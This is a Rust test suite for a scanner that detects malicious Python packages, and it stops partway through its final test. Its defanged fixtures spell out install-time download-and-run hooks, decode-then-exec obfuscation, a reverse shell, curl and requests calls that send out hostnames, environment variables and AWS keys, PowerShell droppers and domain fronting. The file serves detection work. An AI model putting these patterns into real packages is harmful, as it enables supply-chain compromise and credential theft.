//! Synthetic, defanged fixtures: each positive shows one behaviour with a harmless target
//! (example.invalid, documentation IP ranges), each negative shows what honest packages do.

use super::*;

fn rules(path: &str, code: &str, ctx: Context) -> Vec<String> {
    let mut r: Vec<String> =
        analyze(path, code.as_bytes(), ctx, path.ends_with(".pth"), true).findings.into_iter().map(|f| f.rule).collect();
    r.sort();
    r.dedup();
    r
}

fn setup(code: &str) -> Vec<String> {
    rules("demo-1.0/setup.py", code, Context::Install)
}

#[test]
fn install_time_download_and_run() {
    let code = r#"
import os
from urllib.request import urlopen
from setuptools import setup
data = urlopen("http://example.invalid/x").read()
os.system("sh /tmp/x")
setup(name="demo")
"#;
    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn install_command_override_with_aliases() {
    let code = r#"
from setuptools import setup
from setuptools.command.install import install
import requests as r
from subprocess import Popen as P
class Hook(install):
    def run(self):
        r.get("https://example.invalid/payload")
        P(["python", "-c", "print(1)"])
        install.run(self)
setup(name="demo", cmdclass={"install": Hook})
"#;
    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn dependency_confusion_beacon() {
    let code = r#"
import socket, getpass, requests
from setuptools import setup
requests.post("https://example.invalid/c", json={"h": socket.gethostname(), "u": getpass.getuser()})
setup(name="internal-lib", version="99.0.0")
"#;
    assert!(setup(code).contains(&"py-install-exfil-hostinfo".to_string()), "{:?}", setup(code));
}

#[test]
fn decode_exec_chains() {
    for code in [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import base64 as b\nexec(b.b64decode('cHJpbnQoMSk='))\n",
        "from base64 import b64decode as d\neval(compile(d('cHJpbnQoMSk='), '<x>', 'exec'))\n",
        "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
        "import zlib, base64\ncode = zlib.decompress(base64.b64decode('eJw='))\nexec(code)\n",
        "_ = lambda __ : __import__('zlib').decompress(__[::-1])\nexec((_)(b'x'))\n",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
        "import marshal\nexec(marshal.loads(b'\\xe3'))\n",
        "__import__('builtins').exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
    ] {
        let r = rules("demo-1.0/setup.py", code, Context::Install);
        assert!(r.contains(&"py-decode-exec".to_string()), "{code}: {r:?}");
    }
}

#[test]
fn network_exec() {
    let code = "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n";
    assert!(rules("pkg/mod.py", code, Context::Module).contains(&"py-network-exec".to_string()));
}

#[test]
fn import_time_behaviour() {
    let code = "import requests, subprocess\nrequests.get('https://example.invalid')\nsubprocess.run(['id'])\n";
    assert!(rules("pkg/__init__.py", code, Context::Import).contains(&"py-import-download-exec".to_string()));
    // The same inside a function of __init__ runs only when called.
    let code = "import requests, subprocess\ndef update():\n    requests.get('https://example.invalid')\n    subprocess.run(['id'])\n";
    assert!(!rules("pkg/__init__.py", code, Context::Import).contains(&"py-import-download-exec".to_string()));
}

#[test]
fn dropper_shape() {
    let code = "import requests, subprocess\ndef go():\n    d = requests.get('https://example.invalid/a.exe').content\n    with open('a.exe', 'wb') as f:\n        f.write(d)\n    subprocess.Popen(['a.exe'])\n";
    assert!(rules("pkg/util.py", code, Context::Module).contains(&"py-dropper".to_string()));
}

#[test]
fn hidden_code_and_pth() {
    let code = format!("x = 1{}; import os; os.system('id')\n", " ".repeat(200));
    assert!(rules("pkg/mod.py", &code, Context::Module).contains(&"py-hidden-code".to_string()));
    let r = rules("evil.pth", "import os; os.system('id')\n", Context::Install);
    assert!(r.contains(&"pth-executable-line".to_string()), "{r:?}");
    assert!(r.contains(&"py-install-process".to_string()), "{r:?}");
}

#[test]
fn honest_setup_py_is_quiet() {
    let code = r#"
import os, re, subprocess, sys
from setuptools import setup, Extension
here = os.path.abspath(os.path.dirname(__file__))
exec(open(os.path.join(here, "demo", "_version.py")).read())
def git_rev():
    try:
        return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
    except Exception:
        return ""
if os.environ.get("DEMO_DEBUG"):
    print("debug build")
setup(name="demo", version=__version__, ext_modules=[Extension("demo._c", ["src/c.c"])])
"#;
    let r = setup(code);
    assert!(r.iter().all(|x| x == "py-install-process"), "{r:?}");
}

#[test]
fn honest_library_network_and_subprocess() {
    let code = "import requests, subprocess, base64\ndef fetch(url):\n    return requests.get(url).json()\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\ndef token(s):\n    return base64.b64decode(s)\n";
    assert!(rules("pkg/client.py", code, Context::Module).is_empty());
    assert!(rules("pkg/__init__.py", code, Context::Import).is_empty());
}

#[test]
fn python2_and_broken_code_still_parse() {
    let code = "import base64\nprint 'hello'\nexec base64.b64decode('cHJpbnQoMSk=')\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    assert!(setup(code).contains(&"py-decode-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn decrypt_then_exec() {
    let code = "from cryptography.fernet import Fernet\nexec(Fernet(b'a2V5').decrypt(b'gAAAAA'))\n";
    assert!(setup(code).contains(&"py-decode-exec".to_string()), "{:?}", setup(code));
    let code = "from cryptography.fernet import Fernet\nf = Fernet(b'a2V5')\ncode = f.decrypt(b'gAAAAA')\nexec(code)\n";
    assert!(setup(code).contains(&"py-decode-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn hidden_endpoints_and_module_exfil() {
    let code = "import base64, requests\ndef report(d):\n    requests.post(url=base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=').decode(), json=d)\n";
    assert!(rules("pkg/main.py", code, Context::Module).contains(&"py-hidden-endpoint".to_string()));
    let code = "import socket, requests\ndef go():\n    requests.post('https://example.invalid', data=socket.gethostname())\n";
    assert!(rules("pkg/main.py", code, Context::Module).contains(&"py-exfil-hostinfo".to_string()));
}

#[test]
fn dynamic_exec_in_setup() {
    let code = "from setuptools import setup\npayload = compute()\nexec(payload)\nsetup(name='x')\n";
    assert!(setup(code).contains(&"py-install-dynamic-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn host_details_must_flow_into_the_request() {
    let code = "import socket, getpass, requests\ndef go():\n    info = {'h': socket.gethostname(), 'u': getpass.getuser()}\n    requests.post('https://example.invalid', json=info)\n";
    assert!(rules("pkg/main.py", code, Context::Module).contains(&"py-exfil-hostinfo".to_string()));
    // A client that reads the platform for its own use and talks to its API is not exfiltrating.
    let code = "import platform, requests\nUA = 'x'\ndef os_name():\n    return platform.platform()\ndef get(u):\n    return requests.get(u, headers={'User-Agent': UA})\n";
    assert!(rules("pkg/client.py", code, Context::Module).is_empty(), "{:?}", rules("pkg/client.py", code, Context::Module));
}

#[test]
fn only_direct_decoders_hide_endpoints() {
    // Data decoded earlier and sent later is ordinary (keys, tokens); a decoder inside the call is not.
    let code = "import base64, requests\nkey = base64.b64decode(CFG)\ndef send():\n    requests.post(URL, data=key)\n";
    assert!(!rules("pkg/client.py", code, Context::Module).contains(&"py-hidden-endpoint".to_string()));
}

#[test]
fn whitespace_alone_is_not_hidden_code() {
    let art = format!("x = 1{}# a comment\nprint('{}|')\n", " ".repeat(200), " ".repeat(200));
    assert!(!rules("pkg/art.py", &art, Context::Module).contains(&"py-hidden-code".to_string()));
}

#[test]
fn commands_that_download_or_hide() {
    let code = "import subprocess\nsubprocess.Popen('powershell -command Invoke-WebRequest -Uri https://example.invalid/a.exe -OutFile a.exe', shell=True)\n";
    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
    let code = "import os, base64\ndef b64d(s):\n    return base64.b64decode(s).decode()\nos.system(b64d('bm90ZXBhZAo='))\n";
    assert!(setup(code).contains(&"py-hidden-command".to_string()), "{:?}", setup(code));
    let code = "import os, sys\nos.system(f'{sys.executable} -m pip install somepkg')\n";
    assert!(setup(code).contains(&"py-install-pip-install".to_string()), "{:?}", setup(code));
    // Build commands are not downloads.
    let code = "import subprocess\nsubprocess.check_call(['cmake', '--build', '.'])\n";
    assert_eq!(setup(code), vec!["py-install-process".to_string()]);
}

fn init(code: &str) -> Vec<String> {
    rules("demo/__init__.py", code, Context::Import)
}

fn module(code: &str) -> Vec<String> {
    rules("demo/util.py", code, Context::Module)
}

#[test]
fn wrappers_do_what_they_wrap() {
    // A local `run(cmd)` around subprocess: its callers' command lines are read as commands.
    let code = "import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\nrun('powershell -c Invoke-WebRequest -Uri https://example.invalid/a.exe -OutFile a.exe')\n";
    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
    // The same wrapper running a build tool stays a plain process.
    let code = "import subprocess\ndef run(cmd):\n    subprocess.check_call(cmd)\nrun(['git', 'describe', '--tags'])\n";
    assert_eq!(setup(code), vec!["py-install-process".to_string()]);
    // A command kept in a variable is read through the variable.
    let code = "import subprocess\ncmd = 'curl -d \"$(whoami)@$(hostname)\" https://example.invalid/c'\nsubprocess.run(cmd, shell=True)\n";
    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
}

#[test]
fn functions_the_import_calls_run_at_import() {
    let code =
        "import socket, requests\ndef beacon():\n    requests.post('https://example.invalid/c', data=socket.gethostname())\nbeacon()\n";
    assert!(init(code).contains(&"py-import-exfil-hostinfo".to_string()), "{:?}", init(code));
    let facts = analyze("demo/__init__.py", code.as_bytes(), Context::Import, false, true);
    let f = facts.findings.iter().find(|f| f.rule == "py-import-exfil-hostinfo").unwrap();
    assert_eq!(f.severity, Severity::Medium, "reached through a call: one step less than direct");
    // A thread started with it runs it too.
    let code = "import threading, socket, requests\ndef beacon():\n    requests.post('https://example.invalid/c', data=socket.gethostname())\nthreading.Thread(target=beacon).start()\n";
    assert!(init(code).contains(&"py-import-exfil-hostinfo".to_string()), "{:?}", init(code));
    // Behind the main guard or only defined, it does not run at import.
    let code = "import socket, requests\ndef beacon():\n    requests.post('https://example.invalid/c', data=socket.gethostname())\nif __name__ == '__main__':\n    beacon()\n";
    assert!(init(code).is_empty(), "{:?}", init(code));
    // A program started by the import.
    let code = "import subprocess\nsubprocess.Popen(['python3', '-c', 'import othermod'], close_fds=True)\n";
    assert_eq!(init(code), vec!["py-import-process".to_string()]);
}

#[test]
fn code_inside_strings_is_read() {
    let code = r#"import os
os.system('python3 -c "import socket,os,pty;s=socket.socket();s.connect((\'203.0.113.5\',4444));os.dup2(s.fileno(),0);pty.spawn(\'/bin/sh\')"')
"#;
    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
    let code = "import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b\"import urllib.request;exec(urllib.request.urlopen('https://example.invalid/s').read())\")\nos.system('pythonw ' + t.name)\n";
    assert!(init(code).contains(&"py-network-exec".to_string()), "{:?}", init(code));
    // Prose that mentions imports is not code.
    let code = "\"\"\"Use `import socket` and subprocess to talk to the daemon; see the docs for exec( details.\"\"\"\nX = 1\n";
    assert!(init(code).is_empty(), "{:?}", init(code));
}

#[test]
fn a_written_file_that_is_run() {
    let code = "import requests, subprocess\ndef update():\n    r = requests.get('https://example.invalid/u.exe')\n    p = 'C:/Users/Public/u.exe'\n    open(p, 'wb').write(r.content)\n    subprocess.Popen([p])\n";
    assert!(module(code).contains(&"py-drop-run".to_string()), "{:?}", module(code));
    let code = "import base64, os\ndef go():\n    with open('/tmp/.x', 'wb') as f:\n        f.write(base64.b64decode(BLOB))\n    os.system('chmod +x /tmp/.x && /tmp/.x')\n";
    assert!(module(code).contains(&"py-drop-run".to_string()), "{:?}", module(code));
    // Build scripts write logs and delete files; a tool reading a file does not run it.
    let code = "import subprocess, requests\nrequests.get(URL)\nsubprocess.Popen(cmd, stderr=open('build.log', 'w'))\nopen('core/config.c', 'w').write(src)\nsubprocess.call('rm -f core/config.c', shell=True)\nsubprocess.check_call(['wix', 'build', 'core/config.c'])\n";
    assert!(!module(code).contains(&"py-drop-run".to_string()), "{:?}", module(code));
}

#[test]
fn commands_from_the_network() {
    let code = "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nwhile True:\n    data = s.recv(1024)\n    subprocess.Popen(data, shell=True)\n";
    assert!(module(code).contains(&"py-remote-command".to_string()), "{:?}", module(code));
    let code = "import telebot, subprocess\nbot = telebot.TeleBot(TOKEN)\n@bot.message_handler(commands=['run'])\ndef handle(message):\n    subprocess.getoutput(message.text)\n";
    assert!(module(code).contains(&"py-remote-command".to_string()), "{:?}", module(code));
    let code = "import subprocess, requests\nv = requests.get(API).json()['version']\nsubprocess.run(['echo', 'done'])\n";
    assert!(!module(code).contains(&"py-remote-command".to_string()), "{:?}", module(code));
}

#[test]
fn secrets_sent_out() {
    let code =
        "import requests\ndef perm(private_key):\n    data = [{'k', private_key}]\n    requests.post('https://example.invalid/t', data)\n";
    assert!(module(code).contains(&"py-exfil-secret".to_string()), "{:?}", module(code));
    let code = "import os, requests\nrequests.post('https://example.invalid/e', json=dict(os.environ))\n";
    assert!(module(code).contains(&"py-exfil-secret".to_string()), "{:?}", module(code));
    let code = "import os, requests\ns = os.environ.get('AWS_SECRET_ACCESS_KEY')\nrequests.get('https://example.invalid/' + s)\n";
    assert!(module(code).contains(&"py-exfil-secret".to_string()), "{:?}", module(code));
    // Wallets derive addresses from keys and query balances; tokens go to their own services.
    let code = "import requests\ndef balance(private_key):\n    address = to_address(private_key)\n    return requests.get(API + address).json()\n";
    assert!(!module(code).contains(&"py-exfil-secret".to_string()), "{:?}", module(code));
    let code = "import os, requests\nrequests.get(URL, headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\n";
    assert!(!module(code).contains(&"py-exfil-secret".to_string()), "{:?}", module(code));
}

#[test]
fn character_codes_and_tuple_aliases_decode() {
    let code = "A, B = exec, compile\nA(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n";
    assert!(module(code).contains(&"py-decode-exec".to_string()), "{:?}", module(code));
    let code = "s = ''\nfor a, k in zip(DATA, KEY):\n    s += chr(ord(a) ^ ord(k))\neval(compile(s, '<string>', 'exec'))\n";
    assert!(module(code).contains(&"py-decode-exec".to_string()), "{:?}", module(code));
    // Formatting numbers as characters without executing them is fine.
    let code = "label = ''.join(map(chr, [72, 105]))\nprint(label)\n";
    assert!(module(code).is_empty(), "{:?}", module(code));
}

#[test]
fn decoders_defined_below_their_use() {
    let code = "import base64\ndef main():\n    p = d(PAYLOAD)\n    exec(p)\ndef d(x):\n    return base64.b64decode(x)\n";
    assert!(module(code).contains(&"py-decode-exec".to_string()), "{:?}", module(code));
}

#[test]
fn sinks_are_names_that_act() {
    for src in [
        "import os\nos.system('x')",
        "from subprocess import run",
        "__import__('subprocess')",
        "exec(x)",
        "os.execvp('sh', [])",
        "import http.client",
        "from http import client",
        "ctypes.windll.shell32.ShellExecuteW(None)",
        "asyncio.create_subprocess_shell(c)",
        "import pip\npip.main(['install', 'x'])",
        "s = socket.socket()",
        "PAYLOAD = 'import base64\\nexec(base64.b64decode(P))'",
        "import os as platform\nplatform.system('id')",
        "code = compile(src, 'f', 'single')",
        "import http as h",
        "from  http import client",
        "import os, pip\npip . main(['install', 'x'])",
        "__import__('pip').main(['install', 'x'])",
    ] {
        assert!(has_sink(src.as_bytes()), "{src}");
    }
    for src in [
        "import platform\nplatform.system()",
        "pattern = re.compile('x')",
        "def execute(self): pass",
        "# see http://example.org and https://example.org",
        "executable = sys.executable",
        "pipeline = pipes",
        "importlib.import_module(name)",
        "\"\"\"Install with pip install demo; see the http docs.\"\"\"",
        "print('pip install demo')",
        "",
    ] {
        assert!(!has_sink(src.as_bytes()), "{src}");
    }
}

#[test]
fn data_sent_to_a_raw_public_ip() {
    let hit = |code: &str| module(code).contains(&"py-exfil-raw-ip".to_string());
    // Through a constant, a client opened with `with`, and one of the file's own functions.
    // (5.6.7.8 stands for any public address; nothing here is ever run.)
    let code = "import requests\nURL = 'http://5.6.7.8:8000/api'\ndef f(key):\n    requests.post(URL, json={'k': key})\n";
    assert!(hit(code), "{:?}", module(code));
    let code = "import httpx\nasync def f(p):\n    async with httpx.AsyncClient(timeout=30) as client:\n        await client.post('http://5.6.7.8/u', files={'f': p})\n";
    assert!(hit(code), "{:?}", module(code));
    let code = "import requests\ndef send_post(url, data):\n    return requests.post(url, json=data)\ndef g(x):\n    send_post('http://5.6.7.8:3000/n', {'f': x})\n";
    assert!(hit(code), "{:?}", module(code));
    // The method as an argument, an address put together from pieces, odd spellings.
    for code in [
        "import requests\nrequests.request('POST', 'http://5.6.7.8/c', data=x)\n",
        "import requests\nIP = '5.6.7.8'\nrequests.post('http://' + IP + ':8000/c', data=x)\n",
        "import requests\nIP = '5.6.7.8'\nrequests.put(f'http://{IP}/c', data=x)\n",
        "import requests\nrequests.post('HTTP://5.6.7.8./c', data=x)\n",
        "import requests\nrequests.post('http://010.0.0.1/c', data=x)\n",
    ] {
        assert!(hit(code), "{code}: {:?}", module(code));
    }
    // Reading from an address, private and documentation addresses, public DNS resolvers,
    // host names, look-alike keywords and methods, and objects that are not network clients.
    for code in [
        "import requests\nrequests.post('https://1.1.1.1/dns-query', data=q)\n",
        "import requests\nrequests.get('http://5.6.7.8/x', metadata=m)\n",
        "import requests\ndef postprocess(u):\n    return requests.get(u)\npostprocess('http://5.6.7.8/x')\n",
        "import requests\nrequests.get('http://5.6.7.8/status')\n",
        "import requests\nrequests.post('http://192.168.1.1/api', json={})\n",
        "import requests\nrequests.post('http://203.0.113.5/api', json={})\n",
        "import requests\nrequests.post('https://api.example.org/v1', json={})\n",
        "form = Form()\nform.post('http://5.6.7.8/x', data=x)\n",
    ] {
        assert!(!hit(code), "{code}: {:?}", module(code));
    }
}

#[test]
fn requests_to_out_of_band_services() {
    let hit = |code: &str| module(code).contains(&"py-exfil-oob".to_string());
    // Any request counts: the interaction itself is the report.
    for code in [
        "import requests, socket\nrequests.get('https://abcdef1234.oast.fun/?h=' + socket.gethostname())\n",
        "import urllib.request\nU = 'https://eo1abcdefgh.m.pipedream.net'\nurllib.request.urlopen(U, data=b'x')\n",
        "import requests\ns = requests.Session()\ns.get(f'https://{ID}.ngrok-free.app/task')\n",
    ] {
        assert!(hit(code), "{code}: {:?}", module(code));
    }
    // ngrok's own API, a catcher named in a string that is never requested, look-alike hosts.
    for code in [
        "import requests\nrequests.get('https://api.ngrok.com/tunnels', headers=H)\n",
        "DOCS = 'see https://webhook.site for a test endpoint'\nprint(DOCS)\n",
        "import requests\nrequests.get('https://notwebhook.site.example.org/x')\n",
    ] {
        assert!(!hit(code), "{code}: {:?}", module(code));
    }
}

#[test]
fn trees_too_large_to_flatten_are_walked_the_same() {
    let fixtures = [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import socket, subprocess\ns = socket.socket()\ncmd = s.recv(1024)\nsubprocess.Popen(cmd, shell=True)\n",
        "import requests, os\nr = requests.get('https://example.invalid/x')\nopen('/tmp/x', 'wb').write(r.content)\nos.system('/tmp/x')\n",
        "import requests\nURL = 'http://5.6.7.8:8000/api'\ndef f(key):\n    requests.post(URL, json={'k': key})\n",
        "class A:\n    def f(self):\n        import os\n        if x:\n            os.system('id')\n",
    ];
    let flat: Vec<Vec<String>> = fixtures.iter().map(|c| module(c)).collect();
    FLAT_LIMIT.with(|l| l.set(0));
    let cursor: Vec<Vec<String>> = fixtures.iter().map(|c| module(c)).collect();
    FLAT_LIMIT.with(|l| l.set(MAX_FLAT_NODES));
    assert_eq!(flat, cursor);
    assert!(flat.iter().take(4).all(|r| !r.is_empty()), "{flat:?}");
}

#[test]
fn public_ip_classification() {
    let check = |host: &str, public: bool| assert_eq!(public_ip_url(&format!("requests.post('http://{host}/x')")), public, "{host}");
    for host in
        ["5.6.7.8", "1.2.3.4:8080", "[::ffff:5.6.7.8]", "010.0.0.1", "8.8.8.9", "172.15.0.1", "172.32.0.1", "100.63.255.255", "100.128.0.1"]
    {
        check(host, true);
    }
    for host in [
        // this network, loopback, private, link-local
        "0.1.2.3",
        "127.0.0.1",
        "127.1.2.3",
        "10.1.2.3",
        "172.16.0.1",
        "172.31.255.255",
        "192.168.1.1",
        "169.254.169.254",
        // shared, IETF protocol assignments, documentation, 6to4 relays, benchmarking
        "100.64.0.1",
        "100.127.255.255",
        "192.0.0.8",
        "192.0.2.1",
        "198.51.100.7",
        "203.0.113.5",
        "192.88.99.1",
        "198.18.0.1",
        "198.19.255.255",
        // multicast, reserved, broadcast, public resolvers
        "224.0.0.1",
        "239.1.1.1",
        "240.0.0.1",
        "255.255.255.255",
        "1.1.1.1",
        "8.8.8.8",
        "9.9.9.9",
        // not IPv4 addresses
        "example.org",
        "1.2.3",
        "1.2.3.4.5",
        "256.1.1.1",
        "1.2.3.-4",
        "[2001:db8::1]",
    ] {
        check(host, false);
    }
}

#[test]
fn cloud_secrets_and_the_environment_are_followed_into_requests() {
    // A client that posts the secret key it was configured with.
    let posted = r#"
import requests
class Client:
    def __init__(self, config):
        data = {"ak": config.access_key_id, "secret": config.access_key_secret}
        requests.post(url="https://example.invalid/c", json=data)
"#;
    assert!(module(posted).contains(&"py-exfil-secret".to_string()), "{:?}", module(posted));
    // Kept on the object by one method, sent by another.
    let on_self = r#"
from os import environ
import requests
class Probe:
    def __init__(self):
        self.secret = environ.get("AWS_SECRET_ACCESS_KEY")
    def go(self):
        requests.get("https://example.invalid/h/" + self.secret)
"#;
    assert!(module(on_self).contains(&"py-exfil-secret".to_string()), "{:?}", module(on_self));
    // Serialised and encoded on the way: the environment still.
    let encoded = r#"
import os, json, base64, requests
env = json.dumps(dict(os.environ))
blob = base64.b64encode(env.encode()).decode()
requests.post("https://example.invalid/p", data={"text": blob})
"#;
    assert!(module(encoded).contains(&"py-exfil-secret".to_string()), "{:?}", module(encoded));
    // A signature made with the key is what services receive: not the secret.
    let signed = r#"
import hmac, requests
def call(secret_key, body):
    sig = hmac.new(secret_key.encode(), body, "sha256").hexdigest()
    requests.post("https://example.invalid/api", data=body, headers={"X-Sig": sig})
"#;
    assert!(!module(signed).contains(&"py-exfil-secret".to_string()), "{:?}", module(signed));
}

#[test]
fn endpoints_hidden_by_decoding() {
    // Character arithmetic over a reversed string, through a variable and a Request object.
    let shifted = r#"
import os
from urllib import request
def report(a):
    uc = "glodyql1hosp{dph22=vswwk"
    endpoint = os.environ.get("X", "".join(chr(ord(c) - 3) for c in uc[::-1]))
    req = request.Request(url=endpoint, method="POST", data=a)
    request.urlopen(req)
"#;
    assert!(module(shifted).contains(&"py-hidden-endpoint".to_string()), "{:?}", module(shifted));
    // A base64 URL decoded into a variable, a client session's request, a decoder function.
    let encoded = r#"
import base64, aiohttp
def b(s):
    return base64.b64decode(s).decode()
async def send(x):
    u = base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv").decode()
    async with aiohttp.ClientSession() as session:
        async with session.post(b("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv"), data=x):
            pass
"#;
    assert!(module(encoded).contains(&"py-hidden-endpoint".to_string()), "{:?}", module(encoded));
    // Decoding what the service returned and sending it back is ordinary.
    let honest = r#"
import base64, requests
def refresh(token):
    claims = base64.b64decode(token.split(".")[1] + "==")
    return requests.post("https://example.invalid/refresh", data={"t": token})
"#;
    assert!(!module(honest).contains(&"py-hidden-endpoint".to_string()), "{:?}", module(honest));
}

#[test]
fn command_lines_cut_into_pieces_read_whole() {
    let code = r#"
import subprocess
parts = ["power", "shell -Command \"Invoke-WebRequest 'https://example.invalid/l.bat' ",
         "-OutFile $env:TEMP\\l.bat; Start-Process -FilePath $env:TEMP\\l.bat\""]
cmd = "".join(parts)
subprocess.run(cmd, shell=True)
"#;
    assert!(module(code).contains(&"py-shell-download-exec".to_string()), "{:?}", module(code));
}

#[test]
fn decoded_program_written_by_name_then_started() {
    let code = r#"
import os, sys
from os.path import join
from base64 import b64decode
from subprocess import call
def b64(code):
    return b64decode(code.encode()).decode()
d = os.environ["TEMP"]
with open(join(d, "stage2.py"), "w") as f:
    f.write(b64("cHJpbnQoMSk="))
call(f"{sys.executable} stage2.py")
setup = None
"#;
    assert!(setup(code).contains(&"py-drop-run".to_string()), "{:?}", setup(code));
    // Writing a generated file and running a build tool on another is a build.
    let build = r#"
import subprocess
with open("version.py", "w") as f:
    f.write("__version__ = '1.0'")
subprocess.check_call(["make", "all"])
"#;
    assert!(!setup(build).contains(&"py-drop-run".to_string()), "{:?}", setup(build));
}

#[test]
fn ciphers_and_look_alike_names() {
    let cipher = r#"
letters = "abcdefghijklmnopqrstuvwxyz"
letters_r = letters[::-1]
exec("".join([letters_r[letters.index(c)] if c in letters_r else c for c in "kirmg(1)"]))
"#;
    assert!(rules("demo-1.0/demo/__init__.py", cipher, Context::Import).contains(&"py-decode-exec".to_string()));
    let names = r#"
O0O0l11lO1 = __import__("os")
l1lllI1lO0 = O0O0l11lO1.path
IlIlIlIlIl = l1lllI1lO0.join
O0O0O0l1l1 = IlIlIlIlIl("a", "b")
"#;
    assert!(rules("demo-1.0/demo/__init__.py", names, Context::Import).contains(&"py-confusable-names".to_string()));
    let honest = r#"
import os
join_paths = os.path.join
def process_items(items):
    return [join_paths("a", i) for i in items]
"#;
    assert!(!rules("demo-1.0/demo/__init__.py", honest, Context::Import).contains(&"py-confusable-names".to_string()));
}

#[test]
fn mathematical_letters_are_read_as_python_reads_them() {
    // `𝘦𝘷𝘢𝘭` is `eval` to Python: decoded data evaluated at import.
    let code = "import base64\n𝘦𝘷𝘢𝘭(base64.b64decode('MSsx'))\n";
    let found = rules("demo-1.0/demo/__init__.py", code, Context::Import);
    assert!(found.contains(&"py-decode-exec".to_string()), "{found:?}");
}

#[test]
fn web_request_parameters_run_as_commands() {
    let code = r#"
import subprocess
from flask import Flask, request
app = Flask(__name__)
@app.route("/")
def index():
    out = subprocess.Popen(request.args.get("c"), shell=True, stdout=subprocess.PIPE)
    return out.stdout.read()
"#;
    assert!(module(code).contains(&"py-remote-command".to_string()), "{:?}", module(code));
}

#[test]
fn names_assembled_from_pieces_and_fetched_by_getattr() {
    // The decoder fetched with getattr from an imported module is still the decoder.
    let getattr_decoder = "exec(compile(getattr(__import__('base64'), 'b64decode')('cHJpbnQoMSk='), '<s>', 'exec'))\n";
    assert!(setup(getattr_decoder).contains(&"py-decode-exec".to_string()), "{:?}", setup(getattr_decoder));
    // A name cut into literal pieces and reversed, evaluated: nothing honest reads so.
    let pieces = "f = eval(('met' + 'sy' + 's.s' + 'o')[::-1])\nf('id')\n";
    assert!(setup(pieces).contains(&"py-decode-exec".to_string()), "{:?}", setup(pieces));
    // Evaluating a variable or a plain literal is not this.
    let plain = "v = eval('1 + 1')\nw = eval(expr_from_config)\n";
    assert!(!setup(plain).contains(&"py-decode-exec".to_string()), "{:?}", setup(plain));
}

#[test]
fn host_details_stay_host_details_once_encoded() {
    let code = r#"
import base64, socket, requests
h = base64.b64encode(socket.gethostname().encode()).decode()
requests.post("https://example.invalid/p", data={"text": h})
"#;
    let found = rules("demo-1.0/demo/__init__.py", code, Context::Import);
    assert!(found.contains(&"py-import-exfil-hostinfo".to_string()), "{found:?}");
}

#[test]
fn fetched_script_saved_under_a_program_name_and_launched() {
    // The launcher is looked up at run time; the saved path's name says it is a program.
    let code = r#"
import os, shutil, subprocess, requests
def start():
    code = requests.get("https://example.invalid/raw/x").text
    path = f'{os.path.expanduser("~")}\\t1.pyw'
    with open(path, "a+") as f:
        f.write(code)
    launcher = shutil.which("pythonw")
    subprocess.Popen([launcher, path])
"#;
    assert!(module(code).contains(&"py-drop-run".to_string()), "{:?}", module(code));
    // A downloaded archive handed to a tool is not a program being run.
    let archive = r#"
import subprocess, requests
def fetch():
    data = requests.get("https://example.invalid/a.zip").content
    path = "a.zip"
    with open(path, "wb") as f:
        f.write(data)
    subprocess.run(["unzip", path])
"#;
    assert!(!module(archive).contains(&"py-drop-run".to_string()), "{:?}", module(archive));
}

#[test]
fn addresses_decoded_into_variables() {
    // A constant holding an encoded URL, decoded by a helper, used as the address.
    let code = r#"
import base64, requests
HOOK = "aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvaA=="
def target():
    return base64.b64decode(HOOK.encode()).decode()
def send(files):
    url = target()
    requests.post(url, files=files)
"#;
    assert!(module(code).contains(&"py-hidden-endpoint".to_string()), "{:?}", module(code));
    // Following a link that came inside a decoded response is what API clients do.
    let paging = r#"
import base64, json, requests
def page(body):
    data = base64.b64decode(body)
    return requests.get(json.loads(data)["next"])
"#;
    assert!(!module(paging).contains(&"py-hidden-endpoint".to_string()), "{:?}", module(paging));
}

#[test]
fn domain_fronting_and_browser_disguise() {
    let fronting = r#"
from urllib import request
def beacon(d):
    r = request.Request("https://cdn.example.com/x?d=" + d, headers={"Host": "hidden.example.net"})
    request.urlopen(r)
"#;
    assert!(module(fronting).contains(&"py-domain-fronting".to_string()), "{:?}", module(fronting));
    // Testing a virtual host on the loopback address is not fronting.
    let vhost = r#"
import requests
def probe():
    return requests.get("http://127.0.0.1:8080/", headers={"Host": "app.example.com"})
"#;
    assert!(!module(vhost).contains(&"py-domain-fronting".to_string()), "{:?}", module(vhost));
    // A request at import that poses as a browser weighs high.
    let disguised = "import requests\nrequests.post(\"https://example.invalid/p\", data={\"t\": \"x\"}, headers={\"User-Agent\": \"Mozilla/5.0 (Windows NT 10.0)\"})\n";
    let found = analyze("demo-1.0/demo/__init__.py", disguised.as_bytes(), Context::Import, false, true).findings;
    let f = found.iter().find(|f| f.rule == "py-import-network").expect("import-time request");
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn long_literals_in_parentheses_and_addresses_without_a_scheme() {
    let code = r#"
import os
from setuptools import setup
from setuptools.command.install import install
class Hook(install):
    def run(self):
        cmd = (
